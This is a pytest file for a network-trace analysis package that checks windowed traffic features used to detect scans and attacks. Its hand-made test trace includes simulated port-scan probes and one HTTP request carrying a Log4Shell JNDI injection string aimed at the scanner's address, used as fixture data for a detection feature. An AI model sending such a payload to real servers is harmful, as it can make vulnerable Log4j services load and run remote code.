"""Window features: the registry, window assignment, feature values on a hand-made trace, and
the bundled traces' matrices."""

from __future__ import annotations

import json

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from conftest import bundled_results
from packet_factory import BASE, handshake, packet_table, portless, tcp, udp

from tracelab.security import windows
from tracelab.security.connections import assemble_connections, flow_settings
from tracelab.security.http import http_requests
from tracelab.security.windows import (
    ARTEFACT,
    BEHAVIOURAL,
    FEATURES,
    WINDOWS,
    feature,
    table_totals,
    window_matrix,
    window_settings,
)

ISSUE_FEATURES = {"packets_per_s", "bytes_per_s", "mean_length", "std_length", "iat_mean_s",
                  "iat_std_s", "iat_cv", "syn_only_share", "rst_share", "distinct_dst_hosts",
                  "distinct_dst_ports", "new_connections_per_s", "failed_connection_ratio",
                  "short_connection_share", "http_requests_per_s", "http_4xx_share",
                  "jndi_lookups", "mean_uri_length"}


def test_registry_describes_every_feature():
    assert ISSUE_FEATURES <= set(FEATURES)
    for name, spec in FEATURES.items():
        assert spec.name == name and name.isidentifier()
        assert spec.unit and spec.description and spec.reason
        assert spec.robustness in (BEHAVIOURAL, ARTEFACT)
    classes = {spec.robustness for spec in FEATURES.values()}
    assert classes == {BEHAVIOURAL, ARTEFACT}
    artefacts = {n for n, s in FEATURES.items() if s.robustness == ARTEFACT}
    assert {"hour_of_day_utc", "capture_packets", "mean_dst_port",
            "resolved_name_share"} <= artefacts


def test_registry_refuses_duplicates_and_unknown_classes():
    with pytest.raises(ValueError, match="registered twice"):
        feature("packets_per_s", unit="x", description="x", robustness=BEHAVIOURAL,
                reason="x")
    with pytest.raises(ValueError, match="robustness"):
        feature("new_one", unit="x", description="x", robustness="robust", reason="x")


def build(rows, **settings):
    table = packet_table(rows)
    packets = table.to_pandas()
    connections = assemble_connections(packets, flow_settings(), "t")
    http = http_requests(packets, connections.packet_uid, "t")
    chosen = window_settings(settings)
    totals, _ = table_totals([table], pa.Table.from_pandas(connections.flows),
                             pa.Table.from_pandas(http), chosen)
    return totals, window_matrix(totals, chosen).set_index("window")


def test_adding_a_feature_is_adding_one_function(monkeypatch):
    monkeypatch.setattr(windows, "FEATURES", dict(FEATURES))

    @windows.feature("bytes_per_packet", unit="bytes", description="Frame bytes a packet.",
                     robustness=BEHAVIOURAL, reason="Test.")
    def bytes_per_packet(w):
        return w.ratio(w["bytes"], "packets")

    _, matrix = build([udp(0, "10.0.0.1", 1, "10.0.0.2", 2), udp(1, "10.0.0.1", 1,
                                                                  "10.0.0.2", 2, payload=40)])
    assert matrix["bytes_per_packet"].tolist() == [(62 + 82) / 2]
    assert windows.windows_table(windows.FEATURES).names[-1] == "bytes_per_packet"


def test_feature_columns_are_declared_by_the_registry():
    assert WINDOWS.names == ["trace", "window", "start_s", "start_ts", "duration_s",
                             *FEATURES]
    for spec in FEATURES.values():
        column = WINDOWS.column(spec.name)
        assert (column.unit, column.doc, column.nullable) == (spec.unit, spec.description, True)


@pytest.mark.parametrize("last_t, windows_kept, last_duration", [
    (25.0, 3, 5.0),   # the last window covers half its length: kept
    (24.0, 2, 10.0),  # less than half: dropped
    (3.0, 1, 3.0),    # a trace shorter than a window keeps its only window
])
def test_windows_cover_the_trace_and_drop_a_short_tail(last_t, windows_kept, last_duration):
    rows = [udp(t, "10.0.0.1", 1, "10.0.0.2", 2) for t in np.arange(0.0, last_t, 1.0)]
    rows.append(udp(last_t, "10.0.0.1", 1, "10.0.0.2", 2))
    _, matrix = build(rows)
    assert len(matrix) == windows_kept
    assert matrix["duration_s"].iloc[-1] == pytest.approx(last_duration)
    assert matrix["start_s"].tolist() == [10.0 * i for i in range(windows_kept)]


def hand_made_trace():
    """Window 0: four probes, one rejected, from a scanner shown by IP to named hosts.
    Window 1: one browser connection with a JNDI request answered 404 and a clean one 200."""
    scanner, client = "10.9.9.9", "10.0.0.1"
    rows = [tcp(0.0 + i, scanner, 30000 + i, f"h{i}.example", 9200 + (i % 2), "S")
            for i in range(4)]
    rows.append(tcp(3.5, "h3.example", 9201, scanner, 30003, "RA", ack=1))
    rows += handshake(10.0, client, 40000, "web.example", 80)
    rows += [portless(10.1, client, "web.example", "HTTP", payload=100, http_method="GET",
                      http_uri="/?x=${jndi:ldap://10.9.9.9:1389/a}"),
             tcp(10.2, "web.example", 80, client, 40000, "A", seq=1, ack=101),
             portless(10.3, "web.example", client, "HTTP", payload=200, http_status=404),
             tcp(10.4, client, 40000, "web.example", 80, "PA", seq=101, ack=201, payload=50,
                 protocol="HTTP", http_method="GET", http_uri="/index.html"),
             tcp(10.5, "web.example", 80, client, 40000, "PA", seq=201, ack=151, payload=300,
                 protocol="HTTP", http_status=200),
             tcp(19.0, client, 40000, "web.example", 80, "FA", seq=151, ack=501),
             tcp(19.5, "web.example", 80, client, 40000, "FA", seq=501, ack=152)]
    return rows


def test_feature_values_on_a_hand_made_trace():
    _, m = build(hand_made_trace())
    assert len(m) == 2 and m["duration_s"].tolist() == [10.0, 9.5]
    assert m["packets_per_s"].tolist() == pytest.approx([5 / 10, 10 / 9.5])
    assert m["syn_only_share"].tolist() == pytest.approx([4 / 5, 1 / 10])
    assert m["rst_share"].tolist() == pytest.approx([1 / 5, 0.0])
    assert m["distinct_dst_hosts"].tolist() == [4, 1]
    assert m["distinct_dst_ports"].tolist() == [2, 1]
    assert m["max_fanout_per_source"].tolist() == [4, 1]
    assert m["new_connections_per_s"].tolist() == pytest.approx([0.4, 1 / 9.5])
    assert m["failed_connection_ratio"].tolist() == [1.0, 0.0]
    assert m["short_connection_share"].tolist() == [1.0, 0.0]
    assert m["http_requests_per_s"].tolist() == pytest.approx([0.0, 2 / 9.5])
    assert np.isnan(m["http_4xx_share"].iloc[0]) and m["http_4xx_share"].iloc[1] == 0.5
    assert m["jndi_lookups"].tolist() == [0, 1]
    assert np.isnan(m["mean_uri_length"].iloc[0])
    assert m["mean_uri_length"].iloc[1] == pytest.approx((34 + 11) / 2)
    assert m["mean_dst_port"].iloc[0] == pytest.approx(9200.5)
    assert m["resolved_name_share"].tolist() == pytest.approx([0.5, 0.5])
    assert m["capture_packets"].tolist() == [15, 15]
    start = BASE.hour + BASE.minute / 60
    assert m["hour_of_day_utc"].tolist() == pytest.approx([start, start + 10 / 3600])
    gaps = np.diff([0.0, 1.0, 2.0, 3.0, 3.5])
    assert m["iat_mean_s"].iloc[0] == pytest.approx(gaps.mean())
    assert m["iat_cv"].iloc[0] == pytest.approx(gaps.std(ddof=1) / gaps.mean())


def test_empty_windows_have_zero_rates_and_no_means():
    rows = [udp(0, "10.0.0.1", 1, "10.0.0.2", 2), udp(25, "10.0.0.1", 1, "10.0.0.2", 2)]
    _, m = build(rows)
    assert m.loc[1, "packets_per_s"] == 0 and np.isnan(m.loc[1, "mean_length"])


@pytest.mark.parametrize("trace", ["log4j_scan", "web_browsing"])
def test_bundled_window_matrix(trace):
    path = bundled_results() / f"features/{trace}/windows.parquet"
    matrix = pd.read_parquet(path)
    packets = pd.read_parquet(bundled_results() / f"packets/{trace}.parquet", columns=["t_rel_s"])
    duration = packets["t_rel_s"].max()
    full, tail = divmod(duration, 10.0)
    assert len(matrix) == int(full) + (tail >= 5.0)
    assert list(matrix.columns[5:]) == list(FEATURES)
    assert (matrix["trace"] == trace).all()
    recorded = json.loads(pq.read_schema(path).metadata[b"tracelab.features"])
    assert recorded == [spec.describe() for spec in FEATURES.values()]
    assert (matrix["capture_packets"] == len(packets)).all()


def test_a_window_that_covers_no_time_has_no_rate():
    _, m = build([udp(0, "10.0.0.1", 1, "10.0.0.2", 2)])
    assert m["duration_s"].tolist() == [0.0]
    assert np.isnan(m["packets_per_s"].iloc[0]) and np.isnan(m["bytes_per_s"].iloc[0])
    assert m["capture_packets"].tolist() == [1]


@pytest.mark.parametrize("trace", ["log4j_scan", "web_browsing"])
def test_bundled_last_window_rates_are_per_second_it_covers(trace):
    """`window_s: 10` is an integer in config.yaml: the last window's coverage must still be
    the exact time up to the last packet (web_browsing: 6.60 s, not 6), and its rates per that
    time (pandas on the packet table as the oracle)."""
    matrix = pd.read_parquet(bundled_results() / f"features/{trace}/windows.parquet")
    packets = pd.read_parquet(bundled_results() / f"packets/{trace}.parquet",
                              columns=["t_rel_s", "length"])
    last = matrix.iloc[-1]
    start = last["start_s"]
    inside = packets[(packets["t_rel_s"] >= start) & (packets["t_rel_s"] < start + 10)]
    covered = min(packets["t_rel_s"].max() - start, 10.0)
    assert last["duration_s"] == pytest.approx(covered, abs=1e-6)
    assert last["packets_per_s"] == pytest.approx(len(inside) / covered, rel=1e-6)
    assert last["bytes_per_s"] == pytest.approx(inside["length"].sum() / covered, rel=1e-6)


@pytest.mark.parametrize("rows", [0, 1, 7, 500, 20_000])
def test_per_window_counts_and_sums_are_pandas_group_bys(rows):
    """The window totals' counting forms give what the pandas group-bys they replace give, to
    the dtype (windows in any order, repeated keys, empty input)."""
    from tracelab.security.window_totals import (
        most_per_window,
        rows_per_window,
        sums_per_window,
    )

    rng = np.random.default_rng(rows)
    frame = pd.DataFrame({"window": rng.integers(0, max(rows // 20, 1), rows),
                          "orig": rng.integers(0, 6, rows),
                          "attempts": rng.integers(0, 2, rows),
                          "resp_port": rng.integers(0, 65536, rows)})
    window = frame["window"].to_numpy()
    pd.testing.assert_series_equal(rows_per_window(window), frame.groupby("window").size())
    pd.testing.assert_series_equal(
        most_per_window(window, frame["orig"].to_numpy()),
        frame.groupby(["window", "orig"]).size().groupby(level="window").max())
    expected = frame.groupby("window", sort=True).agg(
        connections=("orig", "size"), attempts=("attempts", "sum"),
        resp_port_sum=("resp_port", "sum"))
    got = sums_per_window(window, {"attempts": frame["attempts"].to_numpy(),
                                   "resp_port_sum": frame["resp_port"].to_numpy()})
    pd.testing.assert_frame_equal(got, expected)
